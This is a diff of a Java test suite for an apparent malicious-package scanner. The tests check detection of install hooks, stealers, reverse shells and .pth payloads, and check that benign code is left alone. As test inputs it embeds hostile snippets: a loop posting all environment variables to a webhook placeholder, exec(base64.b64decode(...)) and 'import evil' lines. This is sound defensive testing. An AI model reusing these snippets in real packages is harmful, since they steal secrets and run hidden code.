@@ -22,9 +22,9 @@ import java.nio.charset.StandardCharsets;
 import java.util.List;
 import java.util.Map;
 import org.junit.jupiter.api.Nested;
+import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
-import org.junit.jupiter.api.Test;
 
 class ContentRuleTest {
 
@@ -34,10 +34,10 @@ class ContentRuleTest {
 
   private final ContentRule rule = new ContentRule();
 
-  private List<Finding> check(String project, Map<String, ?> parameters,
-      InspectedDistribution... files) {
-    return rule.evaluate(Distributions.context(wellKept(project).build(), parameters, "content",
-        files));
+  private List<Finding> check(
+      String project, Map<String, ?> parameters, InspectedDistribution... files) {
+    return rule.evaluate(
+        Distributions.context(wellKept(project).build(), parameters, "content", files));
   }
 
   private List<Finding> check(InspectedDistribution... files) {
@@ -69,8 +69,10 @@ class ContentRuleTest {
   }
 
   private static Finding only(List<Finding> findings, String pattern) {
-    return findings.stream().filter(f -> f.evidence().values().get("pattern").equals(pattern))
-        .findFirst().orElseThrow(() -> new AssertionError("no " + pattern + " in " + findings));
+    return findings.stream()
+        .filter(f -> f.evidence().values().get("pattern").equals(pattern))
+        .findFirst()
+        .orElseThrow(() -> new AssertionError("no " + pattern + " in " + findings));
   }
 
   private static RiskLevel worst(List<Finding> findings) {
@@ -80,22 +82,23 @@ class ContentRuleTest {
   /** Each published technique, as written in samples/, is found at the level it deserves. */
   @ParameterizedTest(name = "{0}")
   @CsvSource({
-      "install-hook/setup.py,            sdist, pkg-2.0/setup.py,   install-hook-runs-code, CRITICAL",
-      "obfuscated-setup/setup.py,        sdist, pkg-2.0/setup.py,   exec-decoded,           CRITICAL",
-      "env-exfiltration/ctx.py,          wheel, ctx.py,             steals-and-sends,       CRITICAL",
-      "pth-payload/litellm_init.pth,     wheel, litellm_init.pth,   pth-hidden-payload,     CRITICAL",
-      "token-stealer/grabber.py,         wheel, pkg/grabber.py,     steals-and-sends,       CRITICAL",
-      "browser-stealer/stealer.py,       wheel, pkg/stealer.py,     steals-and-sends,       CRITICAL",
-      "download-execute/__init__.py,     wheel, pkg/__init__.py,    downloads-executable,   CRITICAL",
-      "reverse-shell/shell.py,           wheel, pkg/shell.py,       reverse-shell,          CRITICAL",
-      "chr-chain/core.py,                wheel, pkg/core.py,        exec-obfuscated,        CRITICAL",
-      "byte-array/__init__.py,           wheel, pkg/__init__.py,    exec-obfuscated,        CRITICAL",
-      "startup-hook/sitecustomize.py,    wheel, sitecustomize.py,   startup-hook,           HIGH",
-      "powershell-dropper/install.bat,   wheel, pkg/install.bat,    powershell-encoded,     HIGH"})
-  void everySampleTechniqueIsDetected(String sample, String kind, String path, String pattern,
-      RiskLevel level) {
-    InspectedDistribution file = kind.equals("sdist") ? sdistWith(path, sample(sample))
-        : wheelWith(path, sample(sample));
+    "install-hook/setup.py,            sdist, pkg-2.0/setup.py,   install-hook-runs-code, CRITICAL",
+    "obfuscated-setup/setup.py,        sdist, pkg-2.0/setup.py,   exec-decoded,           CRITICAL",
+    "env-exfiltration/ctx.py,          wheel, ctx.py,             steals-and-sends,       CRITICAL",
+    "pth-payload/litellm_init.pth,     wheel, litellm_init.pth,   pth-hidden-payload,     CRITICAL",
+    "token-stealer/grabber.py,         wheel, pkg/grabber.py,     steals-and-sends,       CRITICAL",
+    "browser-stealer/stealer.py,       wheel, pkg/stealer.py,     steals-and-sends,       CRITICAL",
+    "download-execute/__init__.py,     wheel, pkg/__init__.py,    downloads-executable,   CRITICAL",
+    "reverse-shell/shell.py,           wheel, pkg/shell.py,       reverse-shell,          CRITICAL",
+    "chr-chain/core.py,                wheel, pkg/core.py,        exec-obfuscated,        CRITICAL",
+    "byte-array/__init__.py,           wheel, pkg/__init__.py,    exec-obfuscated,        CRITICAL",
+    "startup-hook/sitecustomize.py,    wheel, sitecustomize.py,   startup-hook,           HIGH",
+    "powershell-dropper/install.bat,   wheel, pkg/install.bat,    powershell-encoded,     HIGH"
+  })
+  void everySampleTechniqueIsDetected(
+      String sample, String kind, String path, String pattern, RiskLevel level) {
+    InspectedDistribution file =
+        kind.equals("sdist") ? sdistWith(path, sample(sample)) : wheelWith(path, sample(sample));
 
     List<Finding> findings = check(file);
 
@@ -117,21 +120,25 @@ class ContentRuleTest {
                                  "upload_time_iso_8601": "2024-01-01T00:00:00Z"}]},
            "urls": [{"filename": "%1$s", "packagetype": "%2$s",
                      "upload_time_iso_8601": "2024-01-01T00:00:00Z"}]}
-          """.formatted(file.filename(), type);
+          """
+          .formatted(file.filename(), type);
     }
 
     static io.pkgguard.testkit.RuleTester wheel(String path, String text) {
-      io.pkgguard.testkit.DistributionArchive wheel = io.pkgguard.testkit.Wheel.of("pkg", "2.0")
-          .file(path, text).build();
+      io.pkgguard.testkit.DistributionArchive wheel =
+          io.pkgguard.testkit.Wheel.of("pkg", "2.0").file(path, text).build();
       return io.pkgguard.testkit.RuleTester.forRule(ContentRule.class)
-          .project(listing(wheel, "bdist_wheel")).file(wheel);
+          .project(listing(wheel, "bdist_wheel"))
+          .file(wheel);
     }
 
     @Test
     void aPthFileWithAHiddenPayloadIsRejected() {
       wheel("litellm_init.pth", sample("pth-payload/litellm_init.pth"))
-          .expect(RiskLevel.CRITICAL, "a .pth start-up file runs hidden, downloaded or external"
-              + " code: litellm_init.pth:1")
+          .expect(
+              RiskLevel.CRITICAL,
+              "a .pth start-up file runs hidden, downloaded or external"
+                  + " code: litellm_init.pth:1")
           .expect(RiskLevel.HIGH, "a .pth file runs code at every Python start-up")
           .expectDecision(io.pkgguard.api.Decision.REJECT)
           .run();
@@ -139,14 +146,20 @@ class ContentRuleTest {
 
     @Test
     void anInstallHookInASourceDistributionIsRejected() {
-      io.pkgguard.testkit.DistributionArchive sdist = io.pkgguard.testkit.Sdist.of("pkg", "2.0")
-          .file("setup.py", sample("install-hook/setup.py")).build();
+      io.pkgguard.testkit.DistributionArchive sdist =
+          io.pkgguard.testkit.Sdist.of("pkg", "2.0")
+              .file("setup.py", sample("install-hook/setup.py"))
+              .build();
 
       io.pkgguard.testkit.RuleTester.forRule(ContentRule.class)
-          .project(listing(sdist, "sdist")).file(sdist)
-          .expect(RiskLevel.CRITICAL, "setup.py replaces an install command with one that runs"
-              + " commands or uses the network: pkg-2.0/setup.py:10")
-          .expect(RiskLevel.HIGH, "runs commands when the package is installed: pkg-2.0/setup.py:15")
+          .project(listing(sdist, "sdist"))
+          .file(sdist)
+          .expect(
+              RiskLevel.CRITICAL,
+              "setup.py replaces an install command with one that runs"
+                  + " commands or uses the network: pkg-2.0/setup.py:10")
+          .expect(
+              RiskLevel.HIGH, "runs commands when the package is installed: pkg-2.0/setup.py:15")
           .expect(RiskLevel.HIGH, "uses the network when the package is installed")
           .expect(RiskLevel.MEDIUM, "reads the environment it is installed in")
           .run();
@@ -154,8 +167,10 @@ class ContentRuleTest {
 
     @Test
     void ordinaryCodeIsQuiet() {
-      wheel("pkg/__init__.py", "import json\n\ndef load(path):\n    with open(path) as f:\n"
-          + "        return json.load(f)\n")
+      wheel(
+              "pkg/__init__.py",
+              "import json\n\ndef load(path):\n    with open(path) as f:\n"
+                  + "        return json.load(f)\n")
           .expectNoFindings()
           .expectDecision(io.pkgguard.api.Decision.ALLOW)
           .run();
@@ -167,30 +182,35 @@ class ContentRuleTest {
 
     @Test
     void quoteFileLineAndAnEscapedExcerpt() {
-      List<Finding> findings = check(sdistWith("pkg-2.0/setup.py", sample(
-          "obfuscated-setup/setup.py")));
+      List<Finding> findings =
+          check(sdistWith("pkg-2.0/setup.py", sample("obfuscated-setup/setup.py")));
 
-      assertThat(only(findings, "exec-decoded").message()).startsWith("executes decoded data (a"
-          + " hidden payload): pkg-2.0/setup.py:7: __import__('').exec(__import__('').compile(");
+      assertThat(only(findings, "exec-decoded").message())
+          .startsWith(
+              "executes decoded data (a"
+                  + " hidden payload): pkg-2.0/setup.py:7: __import__('').exec(__import__('').compile(");
       assertThat(only(findings, "exec-decoded").evidence().values())
-          .containsEntry("line", "7").containsEntry("patterns", "built-in "
-              + ContentPatterns.builtInVersion());
+          .containsEntry("line", "7")
+          .containsEntry("patterns", "built-in " + ContentPatterns.builtInVersion());
     }
 
     @Test
     void countOtherFilesWithTheSameFinding() {
       String hook = "import os\nos.system('id')\n";
-      List<Finding> findings = check(wheelWith("a.pth", "import a\n", "b.pth", "import b\n",
-          "c.pth", "import c\n"));
+      List<Finding> findings =
+          check(wheelWith("a.pth", "import a\n", "b.pth", "import b\n", "c.pth", "import c\n"));
 
-      assertThat(only(findings, "pth-runs-code").message()).isEqualTo("a .pth file runs code at"
-          + " every Python start-up: a.pth:1: import a (and 2 more files)");
+      assertThat(only(findings, "pth-runs-code").message())
+          .isEqualTo(
+              "a .pth file runs code at"
+                  + " every Python start-up: a.pth:1: import a (and 2 more files)");
       assertThat(hook).isNotEmpty();
     }
 
     @Test
     void textThatLowerCasingLengthensIsMatchedWhereItIs() {
-      String turkish = "# \u0130\u0130\u0130\u0130 \u0130stanbul\nimport os\nexec(base64.b64decode(p))\n";
+      String turkish =
+          "# \u0130\u0130\u0130\u0130 \u0130stanbul\nimport os\nexec(base64.b64decode(p))\n";
 
       assertThat(only(check(wheelWith("pkg/tr.py", turkish)), "exec-decoded").message())
           .endsWith("pkg/tr.py:3: exec(base64.b64decode(p))");
@@ -198,8 +218,8 @@ class ContentRuleTest {
 
     @Test
     void controlCharactersInCodeAreEscaped() {
-      List<Finding> findings = check(wheelWith("pkg/x.py",
-          "exec(base64.b64decode(p)) \u001b[2K\u0007\n"));
+      List<Finding> findings =
+          check(wheelWith("pkg/x.py", "exec(base64.b64decode(p)) \u001b[2K\u0007\n"));
 
       assertThat(only(findings, "exec-decoded").message())
           .endsWith("exec(base64.b64decode(p)) \\u001b[2K\\u0007");
@@ -211,7 +231,8 @@ class ContentRuleTest {
 
     @Test
     void wordsInCommentsAndDocstringsAreNotCode() {
-      String explained = """
+      String explained =
+          """
           '''Never write exec(base64.b64decode(x)) or os.dup2(s.fileno(), 0).'''
           # exec(zlib.decompress(blob)) is what malware does
           HELP = "use eval(codecs.decode(...)) never"
@@ -222,7 +243,8 @@ class ContentRuleTest {
 
     @Test
     void ordinaryCodeIsQuiet() {
-      String ordinary = """
+      String ordinary =
+          """
           import json, os, subprocess, requests
           from pathlib import Path
 
@@ -238,7 +260,8 @@ class ContentRuleTest {
 
     @Test
     void redirectingAStandardStreamIsNotAReverseShell() {
-      String capture = """
+      String capture =
+          """
           import os
 
           def start(self):
@@ -250,7 +273,8 @@ class ContentRuleTest {
 
     @Test
     void aCredentialPathInADocstringIsNotData() {
-      String client = """
+      String client =
+          """
           import requests
 
           def login(self, dockercfg_path=None):
@@ -266,67 +290,85 @@ class ContentRuleTest {
 
     @Test
     void aStringInParenthesesIsDataEvenAloneOnItsLine() {
-      String hidden = """
+      String hidden =
+          """
           import os, requests
           URL = (
               "%s"
           )
           for k, v in os.environ.items():
               requests.post(URL, data=k + v)
-          """.formatted(WEBHOOK);
+          """
+              .formatted(WEBHOOK);
 
-      assertThat(check(wheelWith("pkg/x.py", hidden))).extracting(Finding::level)
+      assertThat(check(wheelWith("pkg/x.py", hidden)))
+          .extracting(Finding::level)
           .contains(RiskLevel.CRITICAL);
     }
 
     @Test
     void partsOfATheftInDifferentFilesAreNotCombined() {
-      assertThat(check(wheelWith(
-          "pkg/env.py", "import os\nfor k, v in os.environ.items():\n    print(k)\n",
-          "pkg/links.py", "UPDATES = 'http://bit.ly/2hrImnY'\n")))
-          .extracting(Finding::level).containsOnly(RiskLevel.MEDIUM);
+      assertThat(
+              check(
+                  wheelWith(
+                      "pkg/env.py", "import os\nfor k, v in os.environ.items():\n    print(k)\n",
+                      "pkg/links.py", "UPDATES = 'http://bit.ly/2hrImnY'\n")))
+          .extracting(Finding::level)
+          .containsOnly(RiskLevel.MEDIUM);
     }
 
     @Test
     void aShortLinkInAMessageIsNotAnAddressTheCodeUses() {
-      assertThat(check(wheelWith("pkg/index.py",
-          "raise Error('see http://bit.ly/2hrImnY for details')\n"))).isEmpty();
+      assertThat(
+              check(
+                  wheelWith(
+                      "pkg/index.py", "raise Error('see http://bit.ly/2hrImnY for details')\n")))
+          .isEmpty();
     }
 
     @Test
     void aPlainSetupPyIsQuiet() {
-      assertThat(check(sdistWith("pkg-2.0/setup.py",
-          "from setuptools import setup\nsetup(name='pkg', version='2.0')\n"))).isEmpty();
+      assertThat(
+              check(
+                  sdistWith(
+                      "pkg-2.0/setup.py",
+                      "from setuptools import setup\nsetup(name='pkg', version='2.0')\n")))
+          .isEmpty();
     }
 
     @Test
     void aSetupPyInsideAWheelIsNotInstallTimeCode() {
-      assertThat(check(wheelWith("pkg/setup.py", "import os\nos.system('make')\n")))
-          .isEmpty();
+      assertThat(check(wheelWith("pkg/setup.py", "import os\nos.system('make')\n"))).isEmpty();
     }
 
     // Calibration on 966 wheels downloaded from PyPI (docs/content-rules.md), one test each.
 
     @Test
     void aMethodNamedExecIsNotDynamicExecution() {
-      String tests = "class Cursor:\n    def exec(self, *args):\n        return args\n"
-          + "DATA = bytes([" + "1, ".repeat(30) + "1])\n";
+      String tests =
+          "class Cursor:\n    def exec(self, *args):\n        return args\n"
+              + "DATA = bytes(["
+              + "1, ".repeat(30)
+              + "1])\n";
 
       assertThat(check(wheelWith("apsw/tests/ftstests.py", tests))).isEmpty();
     }
 
     @Test
     void chrOfAVariableIsNotACharacterChain() {
-      String escapes = "exec('from _accel import %s as f' % fn, D)\n"
-          + "for c in range(32):\n    ESC[c] = chr(c)\n".repeat(15);
+      String escapes =
+          "exec('from _accel import %s as f' % fn, D)\n"
+              + "for c in range(32):\n    ESC[c] = chr(c)\n".repeat(15);
 
       assertThat(check(wheelWith("reportlab/lib/rl_accel.py", escapes))).isEmpty();
     }
 
     @Test
     void aPemCertificateIsNotAnEncodedPayload() {
-      String pem = "-----BEGIN CERTIFICATE-----\n" + "MIIDdzCCAl+gAwIBAgIEbbbbbbb\n".repeat(60)
-          + "-----END CERTIFICATE-----\n";
+      String pem =
+          "-----BEGIN CERTIFICATE-----\n"
+              + "MIIDdzCCAl+gAwIBAgIEbbbbbbb\n".repeat(60)
+              + "-----END CERTIFICATE-----\n";
       String test = "CERT = \"\"\"" + pem + "\"\"\"\nassert eval(repr(cipher), {}) == cipher\n";
 
       assertThat(check(wheelWith("twisted/test/test_sslverify.py", test))).isEmpty();
@@ -334,13 +376,15 @@ class ContentRuleTest {
 
     @Test
     void aChatApiAddressWithoutACredentialIsNotADropBox() {
-      String api = "API = 'https://api.telegram.org/bot'\n"
-          + "def send(token, chat, text):\n    return requests.post(f'{API}{token}/sendMessage')\n";
+      String api =
+          "API = 'https://api.telegram.org/bot'\n"
+              + "def send(token, chat, text):\n    return requests.post(f'{API}{token}/sendMessage')\n";
       String stolen =
           "URL = 'https://api.telegram.org/bot5012345678:AAH-sample-token-not-real-xyz'\n";
 
       assertThat(check(wheelWith("tqdm/contrib/telegram.py", api))).isEmpty();
-      assertThat(check(wheelWith("pkg/x.py", stolen))).extracting(Finding::level)
+      assertThat(check(wheelWith("pkg/x.py", stolen)))
+          .extracting(Finding::level)
           .containsExactly(RiskLevel.HIGH);
     }
 
@@ -348,43 +392,51 @@ class ContentRuleTest {
     void onlyATopLevelSitecustomizeRunsAtStartUp() {
       String hook = "import os\n";
 
-      assertThat(check(wheelWith(
-          "debugpy/_vendored/pydevd/pydev_sitecustomize/sitecustomize.py", hook))).isEmpty();
-      assertThat(check(wheelWith("sitecustomize.py", hook))).extracting(Finding::level)
+      assertThat(
+              check(
+                  wheelWith("debugpy/_vendored/pydevd/pydev_sitecustomize/sitecustomize.py", hook)))
+          .isEmpty();
+      assertThat(check(wheelWith("sitecustomize.py", hook)))
+          .extracting(Finding::level)
           .containsExactly(RiskLevel.HIGH);
     }
 
     @Test
     void setuptoolsNamespacePackageLinesAreNotStartUpCode() {
-      String nspkg = "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join("
-          + "sys._getframe(1).f_locals['sitedir'], *('sphinxcontrib',));importlib = has_mfs and"
-          + " __import__('importlib.util');has_mfs and __import__('importlib.machinery');m ="
-          + " has_mfs and sys.modules.setdefault('sphinxcontrib', importlib.util.module_from_spec("
-          + "importlib.machinery.PathFinder.find_spec('sphinxcontrib', [os.path.dirname(p)])));m ="
-          + " m or sys.modules.setdefault('sphinxcontrib', types.ModuleType('sphinxcontrib'));mp ="
-          + " (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and"
-          + " mp.append(p)\n";
-      String older = "import sys, types, os;p = os.path.join(sys._getframe(1).f_locals['sitedir'],"
-          + " *('zope',));ie = os.path.exists(os.path.join(p,'__init__.py'));m = not ie and"
-          + " sys.modules.setdefault('zope', types.ModuleType('zope'));mp = (m or []) and"
-          + " m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n";
+      String nspkg =
+          "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join("
+              + "sys._getframe(1).f_locals['sitedir'], *('sphinxcontrib',));importlib = has_mfs and"
+              + " __import__('importlib.util');has_mfs and __import__('importlib.machinery');m ="
+              + " has_mfs and sys.modules.setdefault('sphinxcontrib', importlib.util.module_from_spec("
+              + "importlib.machinery.PathFinder.find_spec('sphinxcontrib', [os.path.dirname(p)])));m ="
+              + " m or sys.modules.setdefault('sphinxcontrib', types.ModuleType('sphinxcontrib'));mp ="
+              + " (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and"
+              + " mp.append(p)\n";
+      String older =
+          "import sys, types, os;p = os.path.join(sys._getframe(1).f_locals['sitedir'],"
+              + " *('zope',));ie = os.path.exists(os.path.join(p,'__init__.py'));m = not ie and"
+              + " sys.modules.setdefault('zope', types.ModuleType('zope'));mp = (m or []) and"
+              + " m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n";
       String appended = nspkg.strip() + ";import evil\n";
 
       assertThat(check(wheelWith("sphinxcontrib_jsmath-1.0.1-py3.7-nspkg.pth", nspkg))).isEmpty();
       assertThat(check(wheelWith("zope.interface-5.0-py3.8-nspkg.pth", older))).isEmpty();
-      assertThat(check(wheelWith("x-nspkg.pth", appended))).extracting(Finding::level)
+      assertThat(check(wheelWith("x-nspkg.pth", appended)))
+          .extracting(Finding::level)
           .contains(RiskLevel.HIGH);
     }
 
     @Test
     void startUpHooksThatWellKnownProjectsShipAreAllowed() {
-      String hook = "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var,"
-          + " 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim();\n";
+      String hook =
+          "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var,"
+              + " 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim();\n";
 
       assertThat(check("setuptools", Map.of(), wheelWith("distutils-precedence.pth", hook)))
           .isEmpty();
       assertThat(check("evil", Map.of(), wheelWith("distutils-precedence.pth", hook)))
-          .extracting(Finding::level).contains(RiskLevel.HIGH);
+          .extracting(Finding::level)
+          .contains(RiskLevel.HIGH);
     }
   }
 
@@ -393,16 +445,26 @@ class ContentRuleTest {
 
     @Test
     void aPatternFileAddsFindingsAndBuiltInPatternsCanBeSwitchedOff() {
-      TextFile ours = new TextFile("/etc/pkgguard/ours.tsv",
-          "pattern\tinternal-host\tpython\tstrings\thigh\t1\tvault\tvault\\.corp\\.example"
-              + "\tnames our secrets vault\n");
-      InspectedDistribution file = wheelWith("pkg/x.py",
-          "URL = 'https://vault.corp.example/v1'\nimport a\n", "y.pth", "import y\n");
+      TextFile ours =
+          new TextFile(
+              "/etc/pkgguard/ours.tsv",
+              "pattern\tinternal-host\tpython\tstrings\thigh\t1\tvault\tvault\\.corp\\.example"
+                  + "\tnames our secrets vault\n");
+      InspectedDistribution file =
+          wheelWith(
+              "pkg/x.py",
+              "URL = 'https://vault.corp.example/v1'\nimport a\n",
+              "y.pth",
+              "import y\n");
 
-      List<Finding> findings = check("pkg", Map.of("pattern-files", List.of(ours),
-          "disabled-patterns", List.of("pth-runs-code")), file);
+      List<Finding> findings =
+          check(
+              "pkg",
+              Map.of("pattern-files", List.of(ours), "disabled-patterns", List.of("pth-runs-code")),
+              file);
 
-      assertThat(findings).extracting(f -> f.evidence().values().get("pattern"))
+      assertThat(findings)
+          .extracting(f -> f.evidence().values().get("pattern"))
           .containsExactly("internal-host");
       assertThat(findings.get(0).evidence().values())
           .containsEntry("patterns", "/etc/pkgguard/ours.tsv:1");
@@ -411,16 +473,23 @@ class ContentRuleTest {
     @Test
     void mistakesInThePolicyAreReportedNotIgnored() {
       TextFile broken = new TextFile("/etc/pkgguard/bad.tsv", "pattern\tx\n");
-      assertThatThrownBy(() -> check("pkg", Map.of("pattern-files", List.of(broken)),
-          wheelWith("a.py", "")))
+      assertThatThrownBy(
+              () -> check("pkg", Map.of("pattern-files", List.of(broken)), wheelWith("a.py", "")))
           .isInstanceOf(RuleParameterException.class)
           .hasMessageContaining("/etc/pkgguard/bad.tsv:1: expected 9 tab-separated columns");
-      assertThatThrownBy(() -> check("pkg", Map.of("disabled-patterns", List.of("no-such")),
-          wheelWith("a.py", "")))
-          .isInstanceOf(RuleParameterException.class).hasMessageContaining("'no-such'");
-      assertThatThrownBy(() -> check("pkg", Map.of("allowed-files", List.of("nocolon")),
-          wheelWith("a.py", "")))
-          .isInstanceOf(RuleParameterException.class).hasMessageContaining("project:glob");
+      assertThatThrownBy(
+              () ->
+                  check(
+                      "pkg",
+                      Map.of("disabled-patterns", List.of("no-such")),
+                      wheelWith("a.py", "")))
+          .isInstanceOf(RuleParameterException.class)
+          .hasMessageContaining("'no-such'");
+      assertThatThrownBy(
+              () ->
+                  check("pkg", Map.of("allowed-files", List.of("nocolon")), wheelWith("a.py", "")))
+          .isInstanceOf(RuleParameterException.class)
+          .hasMessageContaining("project:glob");
     }
   }
 
@@ -432,7 +501,8 @@ class ContentRuleTest {
     String unclosed = "'''" + "exec(base64.b64decode(p))\n".repeat(100_000);
     String nested = "(".repeat(1_000_000) + "'" + WEBHOOK + "'";
 
-    org.junit.jupiter.api.Assertions.assertTimeoutPreemptively(java.time.Duration.ofSeconds(60),
+    org.junit.jupiter.api.Assertions.assertTimeoutPreemptively(
+        java.time.Duration.ofSeconds(60),
         () -> {
           assertThat(check(wheelWith("a.py", manyCalls))).isNotNull();
           assertThat(check(wheelWith("b.py", quotes))).isEmpty();
@@ -441,12 +511,17 @@ class ContentRuleTest {
           assertThat(check(wheelWith("d.py", unclosed))).isEmpty();
           assertThat(only(check(wheelWith("e.py", nested)), "exfil-endpoint").level())
               .isEqualTo(RiskLevel.HIGH);
-        }, "hostile text must not hang the rule");
+        },
+        "hostile text must not hang the rule");
   }
 
   @Test
   void agreesWithTheBuiltInPolicy() {
-    assertThat(Policy.defaults().rule("content").parameters("content")
-        .texts("allowed-files", List.of())).isEqualTo(ContentRule.DEFAULT_ALLOWED);
+    assertThat(
+            Policy.defaults()
+                .rule("content")
+                .parameters("content")
+                .texts("allowed-files", List.of()))
+        .isEqualTo(ContentRule.DEFAULT_ALLOWED);
   }
 }
